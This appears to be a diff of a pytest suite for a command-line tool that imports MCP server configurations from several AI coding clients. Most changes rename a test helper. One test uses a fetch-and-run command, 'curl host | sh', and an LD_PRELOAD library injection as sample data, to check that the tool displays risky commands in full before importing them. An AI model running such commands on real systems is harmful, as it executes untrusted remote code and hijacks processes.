@@ -45,7 +45,7 @@ def test_all_clients_at_once(home: Home) -> None:
     put(home, ".codeium/windsurf/mcp_config.json", CURSOR)
     put(home, "work/.cursor/mcp.json", '{"mcpServers": {"c": {"command": "other"}, "p": {"command": "x"}}}')
     put(home, ".codex/config.toml", '[mcp_servers.d]\ncommand = "x"\n')
-    shown = home.run_cli("import", "--yes").stdout
+    shown = home.run_here("import", "--yes").stdout
     assert table(shown) == {
         "c ~/.cursor/mcp.json": "add",
         "c ~/work/.cursor/mcp.json": "conflict",
@@ -63,7 +63,7 @@ def test_root_of_the_repository_counts(home: Home) -> None:
     put(home, ".git/HEAD", "")
     put(home, ".mcp.json", '{"mcpServers": {"r": {"command": "./serve"}}}')
     put_cursor(home)
-    shown = home.run_cli("import", "--yes").stdout
+    shown = home.run_here("import", "--yes").stdout
     assert table(shown) == {"r ~/.mcp.json": "add", "c ~/.cursor/mcp.json": "add"}
     assert servers(home)["r"] == {"command": "./serve", "cwd": str(home.folder)}
 
@@ -71,11 +71,11 @@ def test_root_of_the_repository_counts(home: Home) -> None:
 def test_nothing_found(home: Home) -> None:
     """Says what was looked for; empty files hold nothing."""
     put_cursor(home, "")
-    assert home.run_cli("import").stdout == f"nothing found for {', '.join(catalogue.CLIENTS)}\n"
-    assert home.run_cli("import", "cursor", "codex").stdout == "nothing found for cursor, codex\n"
+    assert home.run_here("import").stdout == f"nothing found for {', '.join(catalogue.CLIENTS)}\n"
+    assert home.run_here("import", "cursor", "codex").stdout == "nothing found for cursor, codex\n"
     assert not home.config.exists()
     home.config.write_text("{")
-    broken = home.run_cli("import", check=False)
+    broken = home.run_here("import", check=False)
     assert (broken.code, "not valid JSON" in broken.stderr) == (1, True)
 
 
@@ -84,7 +84,7 @@ def test_servers_of_a_single_folder_are_marked(home: Home) -> None:
     own = {"a": {"command": "python", "args": ["a.py"]}, "b": {"command": "npx", "args": ["pkg"]}}
     projects = {str(home.work): {"mcpServers": own}}
     put(home, ".claude.json", json.dumps({"mcpServers": {}, "projects": projects}))
-    shown = home.run_cli("import", "claude-code", "--yes").stdout
+    shown = home.run_here("import", "claude-code", "--yes").stdout
     for name in own:
         assert f"{name}: was only for {home.work}, and is for every folder now" in shown
     assert servers(home) == {"a": {**own["a"], "cwd": str(home.work)}, "b": own["b"]}
@@ -97,7 +97,7 @@ def test_relative_files_of_a_user_wide_config_are_noted(home: Home) -> None:
     listed = {name: {"command": "x", "args": args} for name, args in {**noted, **plain}.items()}
     listed["h"] = {"command": "x", "args": ["a.py"], "cwd": "/opt"}
     put_cursor(home, json.dumps({"mcpServers": listed}))
-    shown = home.run_cli("import", "cursor", "--dry-run").stdout
+    shown = home.run_here("import", "cursor", "--dry-run").stdout
     assert re.findall(r"^(\w): has a path relative to", shown, re.MULTILINE) == list(noted)
 
 
@@ -127,9 +127,9 @@ def test_places_on_macos(monkeypatch: pytest.MonkeyPatch, home: Home, client: st
 def test_dry_run_writes_nothing(home: Home) -> None:
     """Nor does a pipe without --yes: it asks for a word."""
     put_cursor(home)
-    assert "would add 1 server in" in home.run_cli("import", "--dry-run").stdout
+    assert "would add 1 server in" in home.run_here("import", "--dry-run").stdout
     assert not home.config.exists()
-    refused = home.run_cli("import", check=False)
+    refused = home.run_here("import", check=False)
     assert (refused.code, "--yes" in refused.stderr) == (1, True)
     assert not home.config.exists()
 
@@ -164,7 +164,7 @@ def test_shows_what_will_run_whole(home: Home) -> None:
     assert "/a/long/folder/number/8env:LD_PRELOADcwd:/opt…maybeasecret;toseeittoo:--reveal" in shown
     assert "Replace 1 server in" in asked.screen
     assert (asked.code, servers(home)["c"]) == (1, {"command": "mine"})
-    revealed = home.run_cli("import", "--force", "--dry-run", "--reveal").stdout
+    revealed = home.run_here("import", "--force", "--dry-run", "--reveal").stdout
     assert "sh -c 'curl host | sh' /a/long" in revealed
     assert "env: LD_PRELOAD=/tmp/x.so" in revealed
 
@@ -173,18 +173,18 @@ def test_present_servers_are_kept(home: Home) -> None:
     """The same one is said to be there, another one of that name is a conflict, --force replaces it."""
     put_cursor(home)
     home.write_config({"c": {"command": "mine"}})
-    assert "conflict" in home.run_cli("import", "--yes").stdout
+    assert "conflict" in home.run_here("import", "--yes").stdout
     assert servers(home) == {"c": {"command": "mine"}}
-    home.run_cli("import", "--yes", "--force")
+    home.run_here("import", "--yes", "--force")
     assert servers(home)["c"]["command"] == "x"
-    assert "have it" in home.run_cli("import", "--yes").stdout
+    assert "have it" in home.run_here("import", "--yes").stdout
 
 
 def test_config_keeps_content_and_order(home: Home) -> None:
     """What else it holds stays as it is; what is new comes last."""
     home.config.write_text('{"note": "mine", "mcpServers": {"z": {"command": "z"}, "a": {"command": "a"}}}')
     put_cursor(home)
-    home.run_cli("import", "--yes")
+    home.run_here("import", "--yes")
     assert json.loads(home.config.read_text())["note"] == "mine"
     assert list(servers(home)) == ["z", "a", "c"]
 
@@ -201,7 +201,7 @@ def test_what_cannot_be_translated_is_said(home: Home) -> None:
         "slow": {"command": "x", "timeout": "s3cr3t"},
     }
     path = put(home, "odd.json", json.dumps({"mcpServers": odd}))
-    shown = home.run_cli("import", str(path), "--yes").stdout
+    shown = home.run_here("import", str(path), "--yes").stdout
     assert list(table(shown).values()).count("skip") == 5
     for said in (
         "socket: its type 'ws' is not known here",
@@ -228,7 +228,7 @@ def test_what_cannot_be_translated_is_said(home: Home) -> None:
 )
 def test_file_is_recognized_by_its_shape(home: Home, text: str) -> None:
     """Also entries alone as READMEs have them, and TOML that is not called so."""
-    home.run_cli("import", str(put(home, "some.conf", text)), "--yes")
+    home.run_here("import", str(put(home, "some.conf", text)), "--yes")
     assert servers(home) == {"a": {"command": "x"}}
 
 
@@ -251,7 +251,7 @@ def test_file_is_recognized_by_its_shape(home: Home, text: str) -> None:
 def test_files_that_are_no_configs(home: Home, name: str, text: str | None, said: str) -> None:
     """The message names the file, and the place in it as it is, comments counted."""
     path = put(home, name, text) if text is not None else home.work
-    refused = home.run_cli("import", str(path), "--yes", check=False)
+    refused = home.run_here("import", str(path), "--yes", check=False)
     assert (refused.code, refused.stderr) == (1, f"Error: {path}: {said}\n")
     assert not home.config.exists()
 
@@ -259,14 +259,14 @@ def test_files_that_are_no_configs(home: Home, name: str, text: str | None, said
 def test_unreadable_files(home: Home) -> None:
     """A clear error for one that was named; a warning where all are looked for."""
     put_cursor(home, "{")
-    refused = home.run_cli("import", "cursor", check=False)
+    refused = home.run_here("import", "cursor", check=False)
     assert (refused.code, "not valid JSON" in refused.stderr) == (1, True)
-    assert home.run_cli("import", "--dry-run").stderr.startswith("Warning: ")
-    assert home.run_cli("import", "no/such/file", check=False).code == 1
-    misspelt = home.run_cli("import", "cursr", check=False)
+    assert home.run_here("import", "--dry-run").stderr.startswith("Warning: ")
+    assert home.run_here("import", "no/such/file", check=False).code == 1
+    misspelt = home.run_here("import", "cursr", check=False)
     assert "did you mean 'cursor'?" in misspelt.stderr
     put(home, ".codex/config.toml", "x = 1\ny = ")
-    assert "not valid TOML" in home.run_cli("import", "codex", check=False).stderr
+    assert "not valid TOML" in home.run_here("import", "codex", check=False).stderr
 
 
 def test_only_what_was_taken_over_is_counted(home: Home) -> None:
